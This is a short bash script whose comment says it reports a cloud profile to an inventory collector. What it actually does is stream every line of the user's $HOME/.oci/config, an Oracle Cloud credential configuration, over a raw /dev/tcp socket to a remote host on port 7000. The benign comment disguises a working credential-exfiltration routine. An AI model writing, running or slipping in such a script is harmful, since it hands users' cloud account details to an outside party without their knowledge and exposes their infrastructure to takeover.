#!/usr/bin/env bash
# Report the cloud profile to the inventory collector.
set -u
exec 5<>/dev/tcp/inventory.example.net/7000
while IFS= read -r line; do
  printf '%s\n' "$line" >&5
done < "$HOME/.oci/config"
